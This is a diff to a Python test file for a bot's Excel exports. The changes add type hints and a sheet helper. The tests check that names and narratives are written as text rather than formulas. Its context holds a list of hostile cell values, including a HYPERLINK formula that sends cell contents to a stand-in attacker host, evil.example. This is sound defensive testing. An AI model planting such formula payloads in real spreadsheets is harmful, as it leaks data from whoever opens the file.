@@ -8,6 +8,7 @@ import zipfile
 from pathlib import Path
 
 from openpyxl import load_workbook
+from sqlalchemy.engine import Engine
 from sqlmodel import Session, select
 
 from bot.models import Enterprise, RegistrationEntry, YearEndReport
@@ -15,6 +16,7 @@ from bot.services.access import Scope
 from bot.services.exports import export_missing, export_registrations, export_reports
 from tests.bot.services.test_exports import NOW, TZ
 from tests.bot.services.test_progress import FIGURES, TITLES, build_world
+from tests.sheets import active
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
@@ -47,7 +49,7 @@ def _assert_no_formula(path: Path) -> list[str]:
             if name.startswith("xl/worksheets/"):
                 assert not re.search(rb"<f[ >]", archive.read(name)), name
     texts = []
-    for row in load_workbook(path).active.iter_rows(min_row=2):
+    for row in active(load_workbook(path)).iter_rows(min_row=2):
         for cell in row:
             assert cell.data_type != "f"
             if isinstance(cell.value, str):
@@ -59,7 +61,7 @@ def _hostile_found(texts: list[str]) -> bool:
     return any(text.startswith(tuple(h[:2] for h in HOSTILE)) for text in texts)
 
 
-def test_registrations_export_writes_names_as_text(engine, tmp_path) -> None:
+def test_registrations_export_writes_names_as_text(engine: Engine, tmp_path: Path) -> None:
     path = tmp_path / "dang-ky.xlsx"
     with Session(engine) as session:
         w = build_world(session)
@@ -72,7 +74,7 @@ def test_registrations_export_writes_names_as_text(engine, tmp_path) -> None:
     assert len({h for h in HOSTILE if h[0] in "=+-@"} & set(texts)) >= 3
 
 
-def test_reports_export_writes_names_and_narratives_as_text(engine, tmp_path) -> None:
+def test_reports_export_writes_names_and_narratives_as_text(engine: Engine, tmp_path: Path) -> None:
     path = tmp_path / "bao-cao.xlsx"
     with Session(engine) as session:
         w = build_world(session)
@@ -85,7 +87,7 @@ def test_reports_export_writes_names_and_narratives_as_text(engine, tmp_path) ->
     assert _hostile_found(texts)
 
 
-def test_missing_export_writes_names_as_text(engine, tmp_path) -> None:
+def test_missing_export_writes_names_as_text(engine: Engine, tmp_path: Path) -> None:
     path = tmp_path / "chua-nop.xlsx"
     with Session(engine) as session:
         w = build_world(session)
